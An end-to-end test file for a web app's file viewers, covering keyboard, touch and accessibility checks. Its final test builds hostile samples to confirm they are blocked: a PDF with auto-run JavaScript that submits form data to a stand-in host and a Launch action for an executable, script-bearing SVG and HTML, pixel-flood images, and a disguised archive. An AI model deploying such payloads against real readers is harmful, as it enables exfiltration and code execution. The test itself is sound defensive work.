// Files of the sample, each in the viewer of its kind, on the built product: under its content security policy, with the keyboard only, and
// by its own address. useWorld fails a test for any violation of the policy.
import type { Locator, Page } from 'playwright-core';
import { expect, it } from 'vitest';
import { attachFiles } from 'tests/e2e/harness/attachFiles.ts';
import { axe } from 'tests/e2e/harness/axe.ts';
import { openFiles } from 'tests/e2e/harness/openFiles.ts';
import { drag, onPhone } from 'tests/e2e/harness/phone.ts';
import { screenshot } from 'tests/e2e/harness/screenshot.ts';
import { tokenOf } from 'tests/e2e/harness/signIn.ts';
import { forgetRates } from 'tests/e2e/harness/Store.ts';
import { useWorld } from 'tests/e2e/harness/useWorld.ts';
import { pixelFlood } from 'tests/server/harness/pixelFlood.ts';

const world = useWorld();

const viewer = (page: Page, name: string): Locator => page.getByRole('dialog', { name });

it('[FILE-02] shows a document, a recording, a model, a text and a picture under the strict policy, with the keyboard only', async () => {
  const { page } = await world.open({ as: 'staff' });
  await openFiles(page, 'What grew where we did not pick');
  const link = page.getByRole('link', { name: 'what-grew-where-we-did-not-pick.pdf' });
  await link.focus();
  await page.keyboard.press('Enter');
  const pdf = viewer(page, 'what-grew-where-we-did-not-pick.pdf');
  await pdf.locator('.textLayer').getByText('Four plots at Kettle Meadow').waitFor();
  expect(await pdf.getByText('3 of 3').isVisible()).toBe(true);
  await page.keyboard.press('Control+f');
  await page.keyboard.type('rested');
  await pdf.getByText('1 of 3', { exact: true }).waitFor();
  expect(await axe(page)).toEqual([]);

  // The address opens it again; Escape leads back to where it was opened.
  const address = page.url();
  await page.keyboard.press('Escape');
  await pdf.waitFor({ state: 'detached' });
  await expect.poll(() => link.evaluate((element) => element === document.activeElement)).toBe(true);
  await page.goto(address);
  await pdf.locator('.textLayer').first().waitFor();

  await pdf.getByRole('button', { name: 'Previous file' }).click();
  const picture = viewer(page, 'kettle-meadow.jpg').getByRole('img');
  await expect.poll(() => picture.evaluate((image) => (image as HTMLImageElement).naturalWidth)).toBeGreaterThan(0);
  const wide = (): Promise<number> => picture.evaluate((image) => image.getBoundingClientRect().width);
  const before = await wide();
  await page.keyboard.press('+');
  await expect.poll(wide).toBeGreaterThan(before);
  await page.keyboard.press('0');
  await expect.poll(wide).toBe(before);
  await page.keyboard.press('ArrowLeft');
  await viewer(page, 'marsh-berry.jpg').waitFor();
});

it('[FILE-02] plays a recording and a film with their captions, turns a model, reads a text', async () => {
  const { page } = await world.open({ as: 'staff' });
  await openFiles(page, 'Soren Kettlewell on the year');
  await page.getByRole('link', { name: 'recording.wav' }).click();
  const sound = viewer(page, 'recording.wav');
  await sound.getByText('My uncle stood me on his shoulders.').waitFor();
  await sound.locator('[data-known]').waitFor();
  await page.keyboard.press('k');
  await expect
    .poll(() => sound.getByRole('slider', { name: 'Position in the recording' }).getAttribute('aria-valuemax'))
    .not.toBe('0');
  await expect
    .poll(() => sound.locator('audio').evaluate((audio) => (audio as HTMLAudioElement).currentTime))
    .toBeGreaterThan(0);

  await forgetRates(world.store);
  await openFiles(page, 'The day of the long line');
  await page.getByRole('link', { name: 'the-day-of-the-long-line.webm' }).click();
  const film = viewer(page, 'the-day-of-the-long-line.webm');
  await film.getByText('Nobody says a word. The first stake goes down.').waitFor();
  await expect.poll(() => film.locator('video').evaluate((video) => (video as HTMLVideoElement).duration)).toBe(8);
  await page.keyboard.press('k');
  await expect
    .poll(() => film.locator('video').evaluate((video) => (video as HTMLVideoElement).currentTime))
    .toBeGreaterThan(0);

  await forgetRates(world.store);
  await openFiles(page, 'Berry basket with white lightning');
  await page.getByRole('link', { name: 'berry-basket.glb' }).click();
  await viewer(page, 'berry-basket.glb').locator('[data-shown]').waitFor();
  await page.keyboard.press('ArrowLeft');
  expect(await viewer(page, 'berry-basket.glb').isVisible()).toBe(true);

  await forgetRates(world.store);
  await openFiles(page, 'Tides of the narrows');
  await page.getByRole('link', { name: 'tides-of-the-narrows.txt' }).click();
  await viewer(page, 'tides-of-the-narrows.txt').getByText('10:25 high water').waitFor();
});

/** Taps the start button of the browser's own player: its place is given by the distances from the left and lower edges. */
const tapStart = async (media: Locator, fromBottom: number): Promise<void> => {
  const { height } = (await media.boundingBox()) ?? { height: 0 };
  await media.tap({ position: { x: 24, y: height - fromBottom } });
};

/** Starts and stops the player by taps. The samples are short, so the player repeats them. */
const playAndStop = async (media: Locator, fromBottom: number): Promise<void> => {
  await media.evaluate((element) => void ((element as HTMLMediaElement).loop = true));
  const isPaused = (): Promise<boolean> => media.evaluate((element) => (element as HTMLMediaElement).paused);
  expect(await isPaused()).toBe(true);
  await tapStart(media, fromBottom);
  await expect.poll(() => media.evaluate((element) => (element as HTMLMediaElement).currentTime)).toBeGreaterThan(0);
  expect(await isPaused()).toBe(false);
  await tapStart(media, fromBottom);
  await expect.poll(isPaused).toBe(true);
};

it('[FILE-02] [EXPERIENCE] a recording and a film play and stop by taps', async () => {
  const page = await onPhone(world, '/');
  await openFiles(page, 'Soren Kettlewell on the year');
  await page.getByRole('link', { name: 'recording.wav' }).tap();
  const sound = viewer(page, 'recording.wav');
  const audio = sound.locator('audio');
  await sound.locator('[data-known]').waitFor();
  await screenshot(page, 'touch-sound');
  await playAndStop(audio, 27);
  // A line of the spoken text plays from its time.
  await sound
    .getByRole('button', { name: /^Play from/ })
    .last()
    .tap();
  await expect.poll(() => audio.evaluate((element) => (element as HTMLMediaElement).paused)).toBe(false);
  await sound.getByRole('button', { name: 'Close', exact: true }).tap();
  await sound.waitFor({ state: 'detached' });

  await forgetRates(world.store);
  await openFiles(page, 'The day of the long line');
  await page.getByRole('link', { name: 'the-day-of-the-long-line.webm' }).tap();
  const film = viewer(page, 'the-day-of-the-long-line.webm');
  const video = film.locator('video');
  await expect.poll(() => video.evaluate((element) => (element as HTMLVideoElement).duration)).toBe(8);
  await screenshot(page, 'touch-film');
  await playAndStop(video, 48);
  await film.getByRole('button', { name: 'Close', exact: true }).tap();
  await film.waitFor({ state: 'detached' });
});

it('[FILE-02] [EXPERIENCE] a picture is enlarged, moved and closed, a swipe leads to another file, and the pages of a document change, by touch', async () => {
  const page = await onPhone(world, '/');
  await openFiles(page, 'What grew where we did not pick');
  await page.getByRole('link', { name: 'kettle-meadow.jpg' }).tap();
  const pictures = viewer(page, 'kettle-meadow.jpg');
  const picture = pictures.getByRole('img');
  await expect.poll(() => picture.evaluate((image) => (image as HTMLImageElement).naturalWidth)).toBeGreaterThan(0);
  const wide = async (): Promise<number> => (await picture.boundingBox())?.width ?? 0;
  await expect.poll(wide).toBeGreaterThan(0);
  const before = await wide();
  const [left, right] = [
    { x: 80, y: 400 },
    { x: 300, y: 400 },
  ];
  await drag(page, right, { y: -200, x: -60 });
  await pictures.waitFor();
  await drag(page, left, { x: 200 });
  await page.getByRole('dialog').getByText('1 of 3').waitFor();
  await drag(page, right, { x: -200 });
  await pictures.waitFor();
  await expect.poll(wide).toBe(before);
  // The browser takes a tap just after a drag as the end of the drag.
  const [enlarge, close] = ['Zoom in', 'Close'].map((name) => pictures.getByRole('button', { name, exact: true }));
  await expect
    .poll(async () => {
      await enlarge!.tap();
      return await wide();
    })
    .toBeGreaterThan(before);
  await screenshot(page, 'touch-picture');
  // A finger moves an enlarged picture.
  await drag(page, right, { x: -200 });
  await pictures.waitFor();
  await expect
    .poll(async () => {
      if ((await pictures.count()) > 0) await close!.tap({ timeout: 1_000 }).catch(() => undefined);
      return await pictures.count();
    })
    .toBe(0);

  await page.getByRole('link', { name: 'what-grew-where-we-did-not-pick.pdf' }).tap();
  const pdf = viewer(page, 'what-grew-where-we-did-not-pick.pdf');
  await pdf.locator('.textLayer').getByText('Four plots at Kettle Meadow').waitFor();
  const field = pdf.getByRole('textbox', { name: /^Page/ });
  const first = await field.inputValue();
  await screenshot(page, 'touch-document');
  const { x, y, width, height } = (await pdf.locator('.kk-viewer-pdf').boundingBox())!;
  const middle = { x: x + width / 2, y: y + height - 20 };
  await expect
    .poll(async () => {
      await drag(page, middle, { y: 40 - height });
      return await field.inputValue();
    })
    .not.toBe(first);
  await field.tap();
  await page.keyboard.press('Control+a');
  await page.keyboard.insertText(first);
  await page.keyboard.press('Enter');
  await expect.poll(() => field.inputValue()).toBe(first);
});

const ELSEWHERE = 'https://elsewhere.test';

/**
 * Runs a script, submits a form, plays a video and follows a link as soon as an unprotected reader opens it; its page has one line and a
 * link.
 */
const hostilePdf = (): Buffer => {
  const line = 'BT /F1 18 Tf 40 100 Td (Nothing else happens.) Tj ET';
  const script = `app.alert(1); this.submitForm("${ELSEWHERE}/form"); this.getURL("${ELSEWHERE}/js");`;
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (${script.replaceAll(/[()]/g, '\\$&')}) >>
      /AA << /WC << /S /URI /URI (${ELSEWHERE}/closed) >> >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Annots [6 0 R 7 0 R]
      /AA << /O << /S /URI /URI (${ELSEWHERE}/opened) >> >>
      /Resources << /Font << /F1 5 0 R >> /XObject << /X 8 0 R >> >> >>`,
    `<< /Length ${line.length + 6} >> stream\n${line} /X Do\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    `<< /Type /Annot /Subtype /Link /Rect [40 90 200 130] /A << /S /URI /URI (${ELSEWHERE}/link) >> >>`,
    `<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [40 20 90 50] /A << /S /Launch /F (${ELSEWHERE}/run.exe) >> >>`,
    `<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /Length 0
      /F << /FS /URL /F (${ELSEWHERE}/pixel) >> >> stream\n\nendstream`,
  ];
  const body = objects.map((each, at) => `${at + 1} 0 obj ${each} endobj`).join('\n');
  return Buffer.from(`%PDF-1.7\n${body}\ntrailer << /Root 1 0 R /Size 9 >>\n%%EOF\n<html><script>alert(1)</script>`);
};

/** A triangle with that picture on it. */
const modelWith = (picture: Buffer): Buffer => {
  const corners = Buffer.from(new Float32Array([0, 0, 0, 1, 0, 0, 0, 1, 0]).buffer);
  const data = (type: string, bytes: Buffer): string => `data:${type};base64,${bytes.toString('base64')}`;
  return Buffer.from(
    JSON.stringify({
      asset: { version: '2.0' },
      ...{ scene: 0, scenes: [{ nodes: [0] }], nodes: [{ mesh: 0 }] },
      meshes: [{ primitives: [{ attributes: { POSITION: 0 }, material: 0 }] }],
      materials: [{ pbrMetallicRoughness: { baseColorTexture: { index: 0 } } }],
      ...{ textures: [{ source: 0 }], images: [{ uri: data('image/png', picture) }] },
      accessors: [{ bufferView: 0, componentType: 5126, count: 3, type: 'VEC3', min: [0, 0, 0], max: [1, 1, 0] }],
      bufferViews: [{ buffer: 0, byteLength: corners.length }],
      buffers: [{ byteLength: corners.length, uri: data('', corners) }],
    }),
  );
};

it('[TRUST] files made to harm say why they are not shown, run nothing and fetch nothing', async () => {
  const flood = await pixelFlood();
  const outside = {
    asset: { version: '2.0' },
    buffers: [{ uri: `${ELSEWHERE}/a.bin` }],
    images: [{ uri: '../b.png' }],
  };
  const script = '<script>alert(1)</script>';
  const refused: Readonly<Record<string, readonly [Buffer, RegExp]>> = {
    'outside.gltf': [
      Buffer.from(JSON.stringify(outside)),
      /needs other files \(https:\/\/elsewhere\.test\/a\.bin, \.\.\/b\.png\)/,
    ],
    'flood.png': [flood, /The picture is damaged or too large to show/],
    'flood.gif': [
      Buffer.from('474946383961ffffffff800000000000ffffff2c00000000ffffffff00020144003b', 'hex'),
      /The picture is damaged/,
    ],
    'script.svg': [Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`), /can hold programs/],
    'page.html': [Buffer.from(`<html>${script}<img src="${ELSEWHERE}/x"></html>`), /A web page can hold programs/],
    'jar.ogg': [
      Buffer.concat([Buffer.from('OggS'), Buffer.from('PK\u0003\u0004'), Buffer.alloc(64)]),
      /its content does not match its type/,
    ],
    'text.pdf': [Buffer.from('%PDF-1.4 and no more'), /its content does not match its type/],
  };
  const token = await tokenOf(world.url, 'staff');
  const contents = Object.fromEntries(Object.entries(refused).map(([name, [content]]) => [name, content]));
  const others = { 'script.pdf': hostilePdf(), 'flood.gltf': modelWith(flood) };
  const { record, files } = await attachFiles(world.url, token, { ...contents, ...others });
  const { page, allowConsole } = await world.open({ as: 'staff' });
  // Copies of a file that is not a picture.
  allowConsole(/404|Failed to load/);
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => dialogs.push(dialog.message()));
  const names = [...Object.keys(refused), ...Object.keys(others)];
  const openFile = (name: string): Promise<unknown> =>
    page.goto(`/i-${record}?c0=files:${files[names.indexOf(name)]?.id ?? ''}`);
  for (const [name, [, why]] of Object.entries(refused)) {
    await openFile(name);
    await viewer(page, name).getByText(why).waitFor();
    expect(
      await viewer(page, name)
        .getByRole('button', { name: `Download ${name}` })
        .count(),
      name,
    ).toBeGreaterThan(0);
  }
  // Omits its picture, which is not decoded.
  await openFile('flood.gltf');
  await viewer(page, 'flood.gltf').locator('[data-shown]').waitFor();
  await openFile('script.pdf');
  const pdf = viewer(page, 'script.pdf');
  await pdf.locator('.textLayer').getByText('Nothing else happens.').waitFor();
  const link = pdf.locator(`a[href="${ELSEWHERE}/link"]`);
  await expect.poll(() => link.getAttribute('rel')).toBe('noopener noreferrer nofollow');
  expect(await pdf.locator('a[href*="run.exe"]').count()).toBe(0);
  expect([dialogs, page.context().pages().length]).toEqual([[], 1]);
});
